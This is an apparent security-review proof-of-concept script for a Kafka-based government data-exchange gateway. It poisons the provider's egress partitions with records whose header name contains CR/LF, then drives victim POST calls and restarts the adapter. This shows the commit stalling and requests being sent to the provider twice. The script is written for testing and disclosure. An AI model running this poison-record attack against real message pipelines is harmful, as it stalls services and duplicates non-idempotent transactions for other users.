"""Finding: one request with a header NAME containing CR/LF pins the provider adapter's
commit on the provider's egress partition for ever (ValueError escapes work(); pending.finish
never runs).  Effects: (a) that partition's committed offset never moves again while traffic
goes on (lag grows for ever, Pending's deque/set grow with every later record); (b) on any
restart of the adapter every request routed since the poison is sent to the HTTP provider a
second time (non-idempotent POSTs included) and answered twice; the poison is read again and
pins it again.

Run: cd docs/hostile-runs/round1 && ../../../.venv/bin/python f1_provider_crlf_header_name.py
"""
import subprocess, sys, time, uuid, urllib.request, json
sys.path.insert(0, __import__("os").path.join(__import__("os").path.dirname(__file__), "../../../services"))
from collections import Counter
from confluent_kafka import Consumer, TopicPartition
from common import *
from ndxp.core.topology import key_partition

SVC = "VN:GOV:000.00.18.G12:api:nghia-vu-tai-chinh:v1"
EGRESS = "ndxp.out.000.00.18.G12"
ATTACKER = "VN:GOV:000.00.00.H41:motcua"

def committed():
    c = Consumer({"bootstrap.servers": BOOT, "group.id": "ndxp-provider", "enable.auto.commit": False})
    tps = [TopicPartition(EGRESS, p) for p in range(3)]
    out = []
    for tp in c.committed(tps, timeout=10):
        _, hi = c.get_watermark_offsets(TopicPartition(EGRESS, tp.partition), timeout=10)
        out.append((tp.partition, tp.offset, hi))
    c.close()
    return out

def gateway_call(client_path, xid):
    req = urllib.request.Request(
        "http://127.0.0.1:8080/r1/VN/GOV/000.00.18.G12/api/nghia-vu-tai-chinh~v1/nghia-vu-tai-chinh",
        data=b'{"gia_tri": 1500000000}', method="POST",
        headers={"X-Road-Client": client_path, "X-Road-Id": xid, "Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(req, timeout=15) as r:
            return r.status
    except urllib.error.HTTPError as e:
        return e.code

print("before:", committed())
# 1. the poison: one record per partition of the provider's egress topic (the key picks it)
p = producer()
keys, k = {}, 0
while len(keys) < 3:
    kb = f"poison-{k}".encode(); k += 1
    keys.setdefault(key_partition(kb, 3), kb)
for part, kb in sorted(keys.items()):
    p.produce("ndxp.in.000.00.00.H41", key=kb, value=b"{}",
              headers=request(f"poison-{uuid.uuid4()}", ATTACKER, SVC) + [("x-a\r\nx-b", b"v")])
p.flush()
time.sleep(3)
print("after poison:", committed())

# 2. other systems' ordinary calls through the gateway, all answered
victims = [f"victim-{uuid.uuid4()}" for _ in range(30)]
clients = ["VN/GOV/000.00.00.H41/dvc", "VN/GOV/000.00.00.H41/lgsp", "VN/GOV/000.00.00.H41/datdai"]
codes = Counter(gateway_call(clients[i % 3], x) for i, x in enumerate(victims))
print("victim calls answered:", dict(codes))
time.sleep(3)
print("committed vs end (partition, committed, end):", committed())

# 3. the adapter restarts (a deploy, a crash, a rebalance): watch the answers again
c = tap(["ndxp.out.000.00.00.H41"])
subprocess.run([f"{ROOT}/.venv/bin/supervisorctl", "-c", f"{ROOT}/var/run/supervisord.conf",
                "restart", "provider"], check=True)
ms = collect(c, 25)
again = Counter(h(m, "ndxp-correlation-id") for m in ms if h(m, "ndxp-kind") == "response")
print("victim requests answered AGAIN after the restart (provider called again):",
      sum(1 for v in victims if again.get(v)), "of", len(victims))
time.sleep(2)
print("committed after restart:", committed())
